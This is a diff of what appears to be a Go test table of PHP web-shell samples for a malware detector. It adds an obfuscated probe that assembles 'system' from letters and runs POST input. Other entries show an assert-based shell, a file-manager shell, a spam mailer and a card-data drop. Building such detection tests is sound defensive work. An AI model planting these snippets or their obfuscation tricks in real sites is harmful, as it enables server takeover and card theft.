@@ -78,6 +78,8 @@ var probes = []struct{ name, rule, src string }{
 	{"escaped GLOBALS store", "php.exec-input", `<?php ${"\x47\x4c\x4f\x42\x41\x4c\x53"}['k'] = "\x61\x73\x73\x65\x72\x74"; $GLOBALS['k']($_POST['x']);`},
 	{"file manager", "php.file-manager", `<?php $d = $_GET['d']; foreach (scandir($d) as $f) echo $f; if (isset($_GET['del'])) unlink($_GET['del']);
 		if (isset($_GET['read'])) readfile($_GET['read']); chmod($_POST['p'], 0777); rename($_POST['a'], $_POST['b']);`},
+	{"computed GLOBALS store", "php.exec-input", `<?php $GLOBALS['t'] = "abcdefghijklmnopqrstuvwxyz_"; $GLOBALS[$GLOBALS['t'][5].$GLOBALS['t'][6]] = $GLOBALS['t'][18].$GLOBALS['t'][24].$GLOBALS['t'][18].$GLOBALS['t'][19].$GLOBALS['t'][4].$GLOBALS['t'][12];
+		$GLOBALS[$GLOBALS['t'][5].$GLOBALS['t'][6]]($_POST['c']);`},
 	{"spam mailer", "php.mailer", `<?php $to = explode("\n", $_POST['emails']); $h = "From: " . $_POST['from'] . "\r\n";
 		for ($i = 0; $i < count($to); $i++) { mail($to[$i], $_POST['subject'], stripslashes($_POST['body']), $h); }`},
 	{"concealed drop", "php.mail-drop", `<?php $m = "Card: " . $_POST['cc'] . " CVV: " . $_POST['cvv'];
